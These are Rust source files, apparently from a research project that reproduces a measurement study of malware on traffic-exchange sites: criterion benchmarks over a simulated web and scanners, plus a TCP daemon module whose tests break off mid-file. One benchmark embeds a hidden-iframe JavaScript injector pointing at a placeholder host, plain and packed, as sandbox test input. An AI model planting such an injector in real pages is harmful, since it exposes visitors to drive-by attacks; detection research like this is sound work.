        let snippets = malware_slums::snippets::collect(&s.web, &s.regular_pairs());
        for snippet in &snippets {
            println!("\n--- {} ({})", snippet.caption, snippet.url);
            for line in snippet.listing.lines().take(12) {
                println!("    {line}");
            }
        }
        println!();
    }
    // Explicitly requested only — timing output is machine-dependent,
    // so it must not pollute the deterministic `all` artifacts.
    if args.artifacts.iter().any(|a| a == "bench-scan") {
        println!("=== Scan-phase benchmark: serial vs parallel ===");
        bench_scan(study(), args.seed, args.scale);
    }
    if let Some(path) = &args.metrics {
        let json = study().metrics().to_json();
        match std::fs::write(path, json) {
            Ok(()) => eprintln!("[repro] wrote metrics snapshot to {path}"),
            Err(e) => die(&format!("could not write {path}: {e}")),
        }
    }
}

/// Times the scan phase serially and at several worker counts over the
/// already-crawled corpus, checks the parallel outcomes stay identical,
/// and writes the measurements to `BENCH_scanpipe.json`.
fn bench_scan(study: &Study, seed: u64, scale: f64) {
    use malware_slums::scanpipe::ScanPipeline;

    let records = study.store.records();
    let pipeline = ScanPipeline::new(&study.web);

    let time_cold = |scan: &dyn Fn() -> Vec<malware_slums::scanpipe::ScanOutcome>| {
        pipeline.clear_caches();
        let t0 = std::time::Instant::now();
        let outcomes = scan();
        (t0.elapsed(), outcomes)
    };

    let (serial, baseline) = time_cold(&|| pipeline.scan_all(records));
    println!("serial          {:>10.1?}  ({} records)", serial, records.len());

    let mut rows = vec![(1usize, serial)];
    for workers in [2usize, 4, 8] {
        let (elapsed, outcomes) = time_cold(&|| pipeline.scan_all_parallel(records, workers));
        assert_eq!(outcomes, baseline, "parallel scan must match serial bit-for-bit");
        println!(
            "{workers} workers       {:>10.1?}  (speedup {:.2}x)",
            elapsed,
            serial.as_secs_f64() / elapsed.as_secs_f64().max(1e-9)
        );
        rows.push((workers, elapsed));
    }

    let entries: Vec<String> = rows
        .iter()
        .map(|(workers, elapsed)| {
            format!(
                "    {{\"workers\": {workers}, \"seconds\": {:.6}, \"speedup\": {:.4}}}",
                elapsed.as_secs_f64(),
                serial.as_secs_f64() / elapsed.as_secs_f64().max(1e-9)
            )
        })
        .collect();
    let json = format!(
        "{{\n  \"benchmark\": \"scanpipe\",\n  \"seed\": {seed},\n  \"crawl_scale\": {scale},\n  \"records\": {},\n  \"runs\": [\n{}\n  ]\n}}\n",
        records.len(),
        entries.join(",\n")
    );
    match std::fs::write("BENCH_scanpipe.json", &json) {
        Ok(()) => println!("wrote BENCH_scanpipe.json\n"),
        Err(e) => eprintln!("repro: could not write BENCH_scanpipe.json: {e}"),
    }
}
