//! Ablation benches for the design choices DESIGN.md calls out:
//! VirusTotal positives threshold, blacklist consensus threshold, and
//! the content-upload (cloaking-defeat) path. Each bench measures the
//! cost of the variant; the printed summaries quantify the accuracy
//! trade-off.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::countermeasures::detection_ablation;
use malware_slums::study::{Study, StudyConfig};
use slum_detect::blacklist::BlacklistDb;
use slum_detect::virustotal::VirusTotal;
use slum_websim::build::{MaliciousOptions, WebBuilder};
use slum_websim::{GroundTruth, JsAttack, MaliceKind, Tld};

fn bench_ablations(c: &mut Criterion) {
    let mut group = c.benchmark_group("ablations");
    group.sample_size(20);

    // --- VT positives-threshold sweep -------------------------------
    let mut builder = WebBuilder::new(77);
    let mut urls = Vec::new();
    for i in 0..40 {
        let spec = if i % 2 == 0 {
            builder.benign_site(Default::default())
        } else {
            builder.js_site(
                JsAttack::HiddenIframe,
                Tld::Com,
                slum_websim::ContentCategory::Business,
                false,
            )
        };
        urls.push(spec.url);
    }
    let web = builder.finish();

    for threshold in [1usize, 2, 4] {
        let vt = VirusTotal::new(&web).with_threshold(threshold);
        // Report accuracy once per threshold (stderr, outside timing).
        let (mut tp, mut fp) = (0u32, 0u32);
        for url in &urls {
            let truth = web.oracle_page(url).map(|p| p.truth.is_malicious()).unwrap_or(false);
            let verdict = vt.scan_url(url).is_malicious();
            if verdict && truth {
                tp += 1;
            }
            if verdict && !truth {
                fp += 1;
            }
        }
        eprintln!("[ablation] vt_threshold={threshold}: tp={tp}/20 fp={fp}/20");
        group.bench_function(format!("vt_threshold_{threshold}"), |b| {
            b.iter(|| {
                let mut hits = 0;
                for url in urls.iter().take(8) {
                    if vt.scan_url(url).is_malicious() {
                        hits += 1;
                    }
                }
                std::hint::black_box(hits)
            })
        });
    }

    // --- blacklist consensus sweep -----------------------------------
    let mut builder2 = WebBuilder::new(78);
    for _ in 0..60 {
        builder2.malicious_site(MaliciousOptions {
            kind: Some(MaliceKind::Blacklisted),
            cloaked: Some(false),
            ..Default::default()
        });
    }
    for _ in 0..300 {
        builder2.benign_site(Default::default());
    }
    let web2 = builder2.finish();
    let db = BlacklistDb::populate_from_web(&web2);
    let domains: Vec<String> =
        web2.oracle_pages().map(|p| p.url.registered_domain()).collect();
    let truths: Vec<bool> = web2
        .oracle_pages()
        .map(|p| matches!(p.truth, GroundTruth::Malicious(MaliceKind::Blacklisted)))
        .collect();
    // Accuracy summaries per consensus threshold (1 list vs 2 lists).
    for threshold in [1usize, 2] {
        let (mut tp, mut fp) = (0u32, 0u32);
        for (domain, truth) in domains.iter().zip(&truths) {
            let hits = db.check(domain).hits.len();
            let verdict = hits >= threshold;
            if verdict && *truth {
                tp += 1;
            }
            if verdict && !truth {
                fp += 1;
            }
        }
        eprintln!("[ablation] blacklist_consensus>={threshold}: tp={tp} fp={fp}");
    }
    group.bench_function("blacklist_check_400_domains", |b| {
        b.iter(|| {
            let mut count = 0;
            for domain in &domains {
                if db.check(domain).is_blacklisted() {
                    count += 1;
                }
            }
            std::hint::black_box(count)
        })
    });

    // --- content-upload path on/off -----------------------------------
    let study =
        Study::run(&StudyConfig { seed: 79, crawl_scale: 0.0005, domain_scale: 0.04, ..Default::default() });
    let ablation = detection_ablation(&study.outcomes);
    eprintln!(
        "[ablation] detection paths: url_scan={} upload={} blacklist_only={} total={}",
        ablation.url_scan_only,
        ablation.added_by_upload,
        ablation.added_by_blacklists,
        ablation.total
    );
    group.bench_function("detection_ablation_compute", |b| {
        b.iter(|| std::hint::black_box(detection_ablation(&study.outcomes)))
    });
    group.finish();
}

criterion_group!(benches, bench_ablations);
criterion_main!(benches);
