//! Micro-benchmarks of the substrate crates: HTML parsing, JS sandbox
//! execution (packed and plain), URL parsing, browser loads, scanning.

use criterion::{criterion_group, criterion_main, Criterion};
use slum_browser::Browser;
use slum_detect::virustotal::VirusTotal;
use slum_js::obfuscate::pack_layers;
use slum_js::sandbox::Sandbox;
use slum_websim::build::WebBuilder;
use slum_websim::{payload, ContentCategory, JsAttack, Tld, Url};

fn bench_substrates(c: &mut Criterion) {
    let mut group = c.benchmark_group("substrates");

    // HTML parse of a representative malicious page.
    let html = payload::deceptive_download_page("bench.example.com", "dl.example.net");
    group.bench_function("html_parse_page", |b| {
        b.iter(|| std::hint::black_box(slum_html::Document::parse(&html)))
    });

    // JS sandbox: plain and 3-layer-packed injector.
    let injector = "document.write('<iframe src=\"http://x.example/\" width=1 height=1></iframe>');";
    let packed = pack_layers(injector, 3);
    group.bench_function("js_sandbox_plain", |b| {
        b.iter(|| {
            let mut sandbox = Sandbox::new();
            std::hint::black_box(sandbox.run(injector).effects.len())
        })
    });
    group.bench_function("js_sandbox_packed3", |b| {
        b.iter(|| {
            let mut sandbox = Sandbox::new();
            std::hint::black_box(sandbox.run(&packed).effects.len())
        })
    });

    // URL parse.
    group.bench_function("url_parse", |b| {
        b.iter(|| {
            std::hint::black_box(Url::parse("http://sub.example.com/path/page?sid=Ab3xYz&t=9"))
        })
    });

    // Browser load + VT scan over a small web.
    let mut builder = WebBuilder::new(3);
    let benign = builder.benign_site(Default::default());
    let evil = builder.js_site(JsAttack::DynamicIframe, Tld::Com, ContentCategory::Business, false);
    let web = builder.finish();
    let browser = Browser::new(&web);
    group.bench_function("browser_load_benign", |b| {
        b.iter(|| std::hint::black_box(browser.load(&benign.url).failed))
    });
    group.bench_function("browser_load_malicious_js", |b| {
        b.iter(|| std::hint::black_box(browser.load(&evil.url).js.effects.len()))
    });
    let vt = VirusTotal::new(&web);
    group.bench_function("virustotal_scan_url", |b| {
        b.iter(|| std::hint::black_box(vt.scan_url(&evil.url).positives()))
    });
    group.finish();
}

criterion_group!(benches, bench_substrates);
criterion_main!(benches);
