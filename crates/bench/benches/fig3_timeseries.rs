//! Benchmarks Figure 3 (cumulative malicious time series) construction,
//! burstiness scoring and burst detection.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::study::{Study, StudyConfig};
use malware_slums::temporal::CumulativeSeries;

fn bench_fig3(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let mut group = c.benchmark_group("fig3");
    group.bench_function("build_all_series", |b| {
        b.iter(|| std::hint::black_box(study.fig3()))
    });

    // Synthetic long series for the sliding-window analyses.
    let flags: Vec<bool> = (0..100_000).map(|i| i % 9 == 0 || (40_000..41_000).contains(&i)).collect();
    let series = CumulativeSeries::from_flags("bench", &flags);
    group.bench_function("burstiness_100k", |b| {
        b.iter(|| std::hint::black_box(series.burstiness(500)))
    });
    group.bench_function("bursts_100k", |b| {
        b.iter(|| std::hint::black_box(series.bursts(500, 3.0)))
    });
    group.finish();
}

criterion_group!(benches, bench_fig3);
criterion_main!(benches);
