//! Benchmarks Table III (malware categorization) over a scanned corpus.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::categorize::{categorize, tally};
use malware_slums::study::{Study, StudyConfig};

fn bench_table3(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let mut group = c.benchmark_group("table3");
    group.bench_function("tally_full_corpus", |b| {
        b.iter(|| std::hint::black_box(study.table3()))
    });
    let record = &study.store.records()[0];
    let outcome = &study.outcomes[0];
    group.bench_function("categorize_single", |b| {
        b.iter(|| std::hint::black_box(categorize(record, outcome)))
    });
    // Direct tally over borrowed pairs, without the regular filter.
    let pairs: Vec<_> = study.store.records().iter().zip(&study.outcomes).collect();
    group.bench_function("tally_direct", |b| {
        b.iter(|| std::hint::black_box(tally(&pairs)))
    });
    group.finish();
}

criterion_group!(benches, bench_table3);
criterion_main!(benches);
