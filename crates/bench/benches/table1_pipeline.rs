//! Benchmarks the full Table I pipeline: build ecosystem → crawl all
//! nine exchanges → scan → tabulate.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::study::{Study, StudyConfig};

fn bench_table1(c: &mut Criterion) {
    let mut group = c.benchmark_group("table1");
    group.sample_size(10);

    group.bench_function("study_end_to_end_tiny", |b| {
        b.iter(|| {
            let study = Study::run(&StudyConfig {
                seed: 2016,
                crawl_scale: 0.0002,
                domain_scale: 0.03,
                ..Default::default()
            });
            std::hint::black_box(study.table1().overall_malicious_fraction())
        })
    });

    // Tabulation alone, over a prebuilt study.
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.001, domain_scale: 0.05, ..Default::default() });
    group.bench_function("tabulate_only", |b| {
        b.iter(|| std::hint::black_box(study.table1()))
    });
    group.finish();
}

criterion_group!(benches, bench_table1);
criterion_main!(benches);
