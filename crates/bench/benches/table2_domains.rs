//! Benchmarks Table II (per-exchange domain statistics) construction.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::breakdown::domain_rows;
use malware_slums::study::{Study, StudyConfig};

fn bench_table2(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let regular = study.regular_mask();
    c.benchmark_group("table2").bench_function("domain_rows", |b| {
        b.iter(|| {
            std::hint::black_box(domain_rows(study.store.records(), &study.outcomes, &regular))
        })
    });
}

criterion_group!(benches, bench_table2);
criterion_main!(benches);
