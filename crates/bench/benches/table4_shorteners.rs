//! Benchmarks Table IV (shortened-URL statistics) and the shortener
//! service itself.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::study::{Study, StudyConfig};
use slum_websim::shortener::ShortenerService;
use slum_websim::Url;

fn bench_table4(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let mut group = c.benchmark_group("table4");
    group.bench_function("shortened_rows", |b| {
        b.iter(|| std::hint::black_box(study.table4()))
    });

    let svc = ShortenerService::new("goo.gl");
    let target = Url::http("landing.example.com", "/");
    svc.register("bench", target);
    group.bench_function("service_resolve", |b| {
        b.iter(|| std::hint::black_box(svc.resolve("bench", "USA", "10khits.example")))
    });
    group.bench_function("service_stats", |b| {
        b.iter(|| std::hint::black_box(svc.stats("bench")))
    });
    group.finish();
}

criterion_group!(benches, bench_table4);
criterion_main!(benches);
