//! Benchmarks the scan phase serial vs parallel at several worker
//! counts. Caches are cleared before every iteration so each sample
//! measures a cold scan of the whole corpus, which is what `Study::run`
//! pays.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::scanpipe::ScanPipeline;
use malware_slums::study::{Study, StudyConfig};

fn bench_scanpipe(c: &mut Criterion) {
    let study = Study::run(&StudyConfig {
        seed: 2016,
        crawl_scale: 0.002,
        domain_scale: 0.05,
        ..Default::default()
    });
    let records = study.store.records();
    let pipeline = ScanPipeline::new(&study.web);

    let mut group = c.benchmark_group("scanpipe");
    group.sample_size(10);
    group.bench_function("serial", |b| {
        b.iter(|| {
            pipeline.clear_caches();
            std::hint::black_box(pipeline.scan_all(records))
        })
    });
    for workers in [2usize, 4, 8] {
        group.bench_function(format!("parallel_{workers}"), |b| {
            b.iter(|| {
                pipeline.clear_caches();
                std::hint::black_box(pipeline.scan_all_parallel(records, workers))
            })
        });
    }
    // Warm-cache rescan: the memoization payoff when the corpus repeats
    // hosts and URLs (no clear between iterations).
    pipeline.clear_caches();
    group.bench_function("parallel_4_warm", |b| {
        b.iter(|| std::hint::black_box(pipeline.scan_all_parallel(records, 4)))
    });
    group.finish();
}

criterion_group!(benches, bench_scanpipe);
criterion_main!(benches);
