//! Benchmarks Figure 2 (malware-ratio bars) and its rendering.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::report::render_fig2;
use malware_slums::study::{Study, StudyConfig};

fn bench_fig2(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let mut group = c.benchmark_group("fig2");
    group.bench_function("build_bars", |b| b.iter(|| std::hint::black_box(study.fig2())));
    let bars = study.fig2();
    group.bench_function("render", |b| b.iter(|| std::hint::black_box(render_fig2(&bars))));
    group.finish();
}

criterion_group!(benches, bench_fig2);
criterion_main!(benches);
