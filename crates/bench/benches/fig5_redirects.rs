//! Benchmarks Figure 5 (redirect-count histogram) and redirect-chain
//! traversal in the browser.

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::study::{Study, StudyConfig};
use slum_browser::Browser;
use slum_websim::build::WebBuilder;
use slum_websim::{ContentCategory, Tld};

fn bench_fig5(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let mut group = c.benchmark_group("fig5");
    group.bench_function("histogram_build", |b| {
        b.iter(|| std::hint::black_box(study.fig5()))
    });

    let mut builder = WebBuilder::new(1);
    let chain = builder.redirect_chain_site(7, Tld::Com, ContentCategory::Business);
    let web = builder.finish();
    let browser = Browser::new(&web);
    group.bench_function("follow_7_hop_chain", |b| {
        b.iter(|| std::hint::black_box(browser.load(&chain.url).redirect_count()))
    });
    group.finish();
}

criterion_group!(benches, bench_fig5);
criterion_main!(benches);
