//! Benchmarks Figures 6 and 7 (TLD and content-category breakdowns).

use criterion::{criterion_group, criterion_main, Criterion};
use malware_slums::study::{Study, StudyConfig};

fn bench_breakdowns(c: &mut Criterion) {
    let study =
        Study::run(&StudyConfig { seed: 2016, crawl_scale: 0.002, domain_scale: 0.05, ..Default::default() });
    let mut group = c.benchmark_group("fig6_fig7");
    group.bench_function("fig6_tld", |b| b.iter(|| std::hint::black_box(study.fig6())));
    group.bench_function("fig7_content", |b| b.iter(|| std::hint::black_box(study.fig7())));
    group.finish();
}

criterion_group!(benches, bench_breakdowns);
criterion_main!(benches);
