//! The thin TCP front end: newline-delimited JSON over a socket, one
//! request per line, one response per line, with a background scheduler
//! thread cooperatively advancing every submitted study.
//!
//! # Robustness contract
//!
//! - **Admission control**: at most [`DaemonOptions::max_connections`]
//!   concurrent connections; excess connects receive one `overloaded`
//!   line (with `retry_after_ms`) and are closed, counted under
//!   `serve.shed.connections`.
//! - **Bounded buffering**: request lines are read through a timeout
//!   poll loop and capped at [`crate::proto::MAX_REQUEST_LINE`] bytes;
//!   an oversized line is discarded up to its newline and answered with
//!   a typed failure instead of growing the buffer.
//! - **Bounded shutdown**: [`Daemon::shutdown`] is idempotent and
//!   drains connection handlers for at most
//!   [`DaemonOptions::drain_deadline`]; idle clients cannot wedge it
//!   because every read wakes within [`READ_POLL`] to check the stop
//!   flag.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::proto::{parse_request, Response, MAX_REQUEST_LINE};
use crate::service::{ServeError, Service};

/// How long the accept loop and the scheduler sleep when idle.
const IDLE_POLL: Duration = Duration::from_millis(5);

/// Socket read timeout: the longest a connection handler sleeps before
/// re-checking the stop flag. Bounds shutdown latency per handler.
const READ_POLL: Duration = Duration::from_millis(50);

/// Tuning knobs for [`Daemon::start_with`]. [`Default`] gives the
/// stock daemon: 64 connections, a 2-second drain deadline.
#[derive(Debug, Clone)]
pub struct DaemonOptions {
    /// Maximum concurrent connections before new connects are shed.
    pub max_connections: usize,
    /// How long [`Daemon::shutdown`] waits for connection handlers to
    /// notice the stop flag before abandoning them.
    pub drain_deadline: Duration,
}

impl Default for DaemonOptions {
    fn default() -> DaemonOptions {
        DaemonOptions { max_connections: 64, drain_deadline: Duration::from_secs(2) }
    }
}

/// A running daemon: a [`Service`] behind a TCP listener.
///
/// The daemon owns two kinds of threads: one scheduler thread that
/// round-robins [`Service::step`] while any study is running, and one
/// short-lived thread per accepted connection. `shutdown` requests (or
/// [`Daemon::shutdown`]) stop the accept loop; the scheduler drains the
/// in-flight studies before joining so no tenant's study is abandoned
/// mid-slice.
pub struct Daemon {
    service: Arc<Service>,
    addr: std::net::SocketAddr,
    stop: Arc<AtomicBool>,
    accept_thread: Option<std::thread::JoinHandle<()>>,
    scheduler_thread: Option<std::thread::JoinHandle<()>>,
}

impl Daemon {
    /// Binds `addr` (use port 0 for an ephemeral port) and starts the
    /// accept and scheduler threads.
    ///
    /// # Errors
    ///
    /// Propagates bind failures.
    pub fn start(service: Service, addr: &str) -> Result<Daemon, ServeError> {
        Daemon::start_with(service, addr, DaemonOptions::default())
    }

    /// [`Daemon::start`] with explicit [`DaemonOptions`].
    ///
    /// # Errors
    ///
    /// Propagates bind failures.
    pub fn start_with(
        service: Service,
        addr: &str,
        options: DaemonOptions,
    ) -> Result<Daemon, ServeError> {
        let listener = TcpListener::bind(addr)?;
        let addr = listener.local_addr()?;
        listener.set_nonblocking(true)?;
        let service = Arc::new(service);
        let stop = Arc::new(AtomicBool::new(false));

        let accept_service = Arc::clone(&service);
        let accept_stop = Arc::clone(&stop);
        let accept_options = options;
        let accept_thread = std::thread::spawn(move || {
            accept_loop(&listener, &accept_service, &accept_stop, &accept_options);
        });

        let sched_service = Arc::clone(&service);
        let sched_stop = Arc::clone(&stop);
        let scheduler_thread = std::thread::spawn(move || {
            scheduler_loop(&sched_service, &sched_stop);
        });

        Ok(Daemon {
            service,
            addr,
            stop,
            accept_thread: Some(accept_thread),
            scheduler_thread: Some(scheduler_thread),
        })
    }

    /// The bound socket address (resolves port 0).
    pub fn addr(&self) -> std::net::SocketAddr {
        self.addr
    }

    /// The service behind the listener, for in-process inspection.
    pub fn service(&self) -> &Arc<Service> {
        &self.service
    }

    /// Signals the accept loop and scheduler to stop, then joins them.
    /// The scheduler finishes the current scheduling pass, so studies
    /// stop at a checkpoint boundary and resume cleanly on the next
    /// daemon over the same root.
    ///
    /// Bounded and idempotent: connection handlers wake within
    /// [`READ_POLL`] to observe the stop flag and the accept loop
    /// abandons any that outlive [`DaemonOptions::drain_deadline`], so
    /// an idle or wedged client cannot stall shutdown. Calling it
    /// again (including via [`Drop`]) is a no-op.
    pub fn shutdown(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.accept_thread.take() {
            let _ = t.join();
        }
        if let Some(t) = self.scheduler_thread.take() {
            let _ = t.join();
        }
    }

    /// Blocks until a `shutdown` request (or [`Daemon::shutdown`] from
    /// another thread) stops the daemon.
    pub fn wait(&mut self) {
        while !self.stop.load(Ordering::SeqCst) {
            std::thread::sleep(IDLE_POLL);
        }
        self.shutdown();
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        self.shutdown();
    }
}

/// Decrements the live-connection count when a handler exits, however
/// it exits.
struct ConnectionSlot(Arc<AtomicUsize>);

impl Drop for ConnectionSlot {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::SeqCst);
    }
}

fn accept_loop(
    listener: &TcpListener,
    service: &Arc<Service>,
    stop: &Arc<AtomicBool>,
    options: &DaemonOptions,
) {
    let mut handlers: Vec<std::thread::JoinHandle<()>> = Vec::new();
    let live = Arc::new(AtomicUsize::new(0));
    while !stop.load(Ordering::SeqCst) {
        match listener.accept() {
            Ok((stream, _)) => {
                if live.load(Ordering::SeqCst) >= options.max_connections {
                    shed_connection(stream, service);
                    continue;
                }
                live.fetch_add(1, Ordering::SeqCst);
                let slot = ConnectionSlot(Arc::clone(&live));
                let service = Arc::clone(service);
                let stop = Arc::clone(stop);
                handlers.push(std::thread::spawn(move || {
                    let _slot = slot;
                    serve_connection(stream, &service, &stop);
                }));
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                std::thread::sleep(IDLE_POLL);
            }
            Err(_) => break,
        }
        handlers.retain(|h| !h.is_finished());
    }
    // Drain: handlers poll the stop flag every READ_POLL, so they exit
    // on their own. Wait up to the deadline, then abandon stragglers —
    // they hold only Arc clones and die with the process.
    let deadline = Instant::now() + options.drain_deadline;
    loop {
        handlers.retain(|h| !h.is_finished());
        if handlers.is_empty() || Instant::now() >= deadline {
            break;
        }
        std::thread::sleep(IDLE_POLL);
    }
}

/// Answers one over-capacity connection with a single `overloaded`
/// line and closes it.
fn shed_connection(mut stream: TcpStream, service: &Arc<Service>) {
    service.obs().counter("serve.shed.connections").inc();
    let response = Response::overloaded("connect", service.retry_after_ms());
    if let Ok(encoded) = serde_json::to_string(&response) {
        let _ = writeln!(stream, "{encoded}");
        let _ = stream.flush();
    }
}

fn scheduler_loop(service: &Arc<Service>, stop: &Arc<AtomicBool>) {
    while !stop.load(Ordering::SeqCst) {
        match service.step() {
            Ok(0) => std::thread::sleep(IDLE_POLL),
            Ok(_) => {}
            Err(_) => std::thread::sleep(IDLE_POLL),
        }
    }
}

fn serve_connection(stream: TcpStream, service: &Arc<Service>, stop: &Arc<AtomicBool>) {
    let mut writer = match stream.try_clone() {
        Ok(w) => w,
        Err(_) => return,
    };
    if stream.set_read_timeout(Some(READ_POLL)).is_err() {
        return;
    }
    let mut reader = BufReader::new(stream);
    // The line buffer persists across read timeouts: `read_until`
    // appends whatever bytes arrived before the timeout, so a slow
    // client's half-line survives the next poll. `discarding` tracks
    // an oversized line being skipped up to its newline.
    let mut buf: Vec<u8> = Vec::new();
    let mut discarding = false;
    let mut discarded: usize = 0;
    loop {
        if stop.load(Ordering::SeqCst) {
            return;
        }
        match reader.read_until(b'\n', &mut buf) {
            Ok(0) => return, // EOF
            Ok(_) => {}
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                // Timeout: partial bytes (if any) are already in
                // `buf`. Enforce the line cap before waiting again so
                // a newline-free firehose cannot grow the buffer.
                if buf.len() > MAX_REQUEST_LINE {
                    discarding = true;
                    discarded += buf.len();
                    buf.clear();
                }
                continue;
            }
            Err(_) => return,
        }
        if buf.last() != Some(&b'\n') {
            // read_until returned without the delimiter: EOF follows.
            if buf.len() > MAX_REQUEST_LINE {
                discarding = true;
                discarded += buf.len();
                buf.clear();
            }
            if buf.is_empty() && !discarding {
                return;
            }
        }
        if discarding || buf.len() > MAX_REQUEST_LINE {
            // The newline (or EOF) ending an oversized line: report it
            // once, then resync on the next line.
            discarded += buf.len();
            buf.clear();
            let response = Response::failure(
                "parse",
                crate::proto::ProtoError::RequestTooLarge {
                    len: discarded,
                    max: MAX_REQUEST_LINE,
                },
            );
            discarding = false;
            discarded = 0;
            if !write_response(&mut writer, &response) {
                return;
            }
            continue;
        }
        let line = String::from_utf8_lossy(&buf).into_owned();
        buf.clear();
        if line.trim().is_empty() {
            continue;
        }
        let response = match parse_request(line.trim_end()) {
            Ok(req) => {
                let response = service.handle(&req);
                if req.op == "shutdown" {
                    stop.store(true, Ordering::SeqCst);
                }
                response
            }
            Err(e) => Response::failure("parse", e),
        };
        if !write_response(&mut writer, &response) {
            return;
        }
        if stop.load(Ordering::SeqCst) {
            return;
        }
    }
}

fn write_response(writer: &mut TcpStream, response: &Response) -> bool {
    let Ok(encoded) = serde_json::to_string(response) else { return false };
    writeln!(writer, "{encoded}").is_ok() && writer.flush().is_ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(
        reader: &mut BufReader<TcpStream>,
        writer: &mut TcpStream,
        line: &str,
    ) -> Response {
        writeln!(writer, "{line}").expect("write request");
        writer.flush().expect("flush request");
        let mut reply = String::new();
        reader.read_line(&mut reply).expect("read response");
        serde_json::from_str(reply.trim()).expect("response parses")
    }

    #[test]
    fn daemon_serves_a_tiny_study_over_tcp() {
        let root = std::env::temp_dir()
            .join(format!("slum-daemon-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let service = Service::open(&root).expect("service root");
        let mut daemon = Daemon::start(service, "127.0.0.1:0").expect("daemon");

        let stream = TcpStream::connect(daemon.addr()).expect("connect");
        let mut writer = stream.try_clone().expect("clone stream");
        let mut reader = BufReader::new(stream);

        let submit = roundtrip(
            &mut reader,
            &mut writer,
            r#"{"op":"submit-study","tenant":"smoke","crawl_scale":0.0002,"domain_scale":0.03,"checkpoint_every":7}"#,
        );
        assert!(submit.ok, "submit failed: {:?}", submit.error);
        let id = submit.study.expect("study id");

        let done = loop {
            let status = roundtrip(
                &mut reader,
                &mut writer,
                &format!(r#"{{"op":"study-status","study":{id}}}"#),
            );
            assert!(status.ok, "status failed: {:?}", status.error);
            match status.state.as_deref() {
                Some("done") => break status,
                Some("failed") => panic!("study failed: {:?}", status.error),
                _ => std::thread::sleep(std::time::Duration::from_millis(10)),
            }
        };
        assert!(done.digest.is_some(), "done study reports a digest");

        let metrics = roundtrip(&mut reader, &mut writer, r#"{"op":"stream-metrics"}"#);
        let metrics_json = metrics.metrics.expect("metrics payload");
        let snapshot =
            slum_obs::MetricsSnapshot::from_json(&metrics_json).expect("metrics parse");
        assert!(snapshot.counter("serve.studies.completed") >= 1);
        assert!(snapshot.counter("tenant.smoke.crawl.pages") > 0);

        let bye = roundtrip(&mut reader, &mut writer, r#"{"op":"shutdown"}"#);
        assert!(bye.ok);
        daemon.wait();
        std::fs::remove_dir_all(&root).ok();
    }

    fn scratch_service(tag: &str) -> (Service, std::path::PathBuf) {
        let root = std::env::temp_dir()
            .join(format!("slum-daemon-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let service = Service::open(&root).expect("service root");
        (service, root)
    }

    #[test]
    fn shutdown_is_idempotent_and_bounded_with_idle_clients() {
        let (service, root) = scratch_service("drain");
        let mut daemon = Daemon::start_with(
            service,
            "127.0.0.1:0",
            DaemonOptions { drain_deadline: Duration::from_secs(1), ..DaemonOptions::default() },
        )
        .expect("daemon");

        // Two clients that connect and then go silent: the old
        // blocking reader would park the handlers in `lines()` forever
        // and `shutdown` would never join the accept loop.
        let _idle_a = TcpStream::connect(daemon.addr()).expect("connect");
        let _idle_b = TcpStream::connect(daemon.addr()).expect("connect");
        std::thread::sleep(Duration::from_millis(30));

        let started = Instant::now();
        daemon.shutdown();
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "shutdown with idle clients must be deadline-bounded, took {:?}",
            started.elapsed()
        );
        // Idempotent: a second call (and the Drop impl after it) is a
        // no-op, not a hang or panic.
        daemon.shutdown();
        drop(daemon);
        std::fs::remove_dir_all(&root).ok();
    }

    #[test]
    fn oversized_request_line_is_rejected_without_buffering() {
        let (service, root) = scratch_service("bigline");
        let mut daemon = Daemon::start(service, "127.0.0.1:0").expect("daemon");

        let stream = TcpStream::connect(daemon.addr()).expect("connect");
        let mut writer = stream.try_clone().expect("clone");
        let mut reader = BufReader::new(stream);

        // A single line well past the cap, then a valid request: the
        // daemon must reject the first with a typed error and still
        // serve the second on the same connection.
        let blob = "z".repeat(MAX_REQUEST_LINE * 2 + 17);
        writeln!(writer, "{blob}").expect("write oversized line");
        writer.flush().expect("flush");
        let mut reply = String::new();
        reader.read_line(&mut reply).expect("read rejection");
        let rejected: Response = serde_json::from_str(reply.trim()).expect("parses");
        assert!(!rejected.ok);
        assert!(
            rejected.error.as_deref().unwrap_or("").contains("too large"),
            "unexpected error: {:?}",
            rejected.error
        );

        let metrics = roundtrip(&mut reader, &mut writer, r#"{"op":"stream-metrics"}"#);
        assert!(metrics.ok, "connection must survive an oversized line");
        daemon.shutdown();
        std::fs::remove_dir_all(&root).ok();
    }

    #[test]
    fn connection_cap_sheds_with_overloaded_response() {
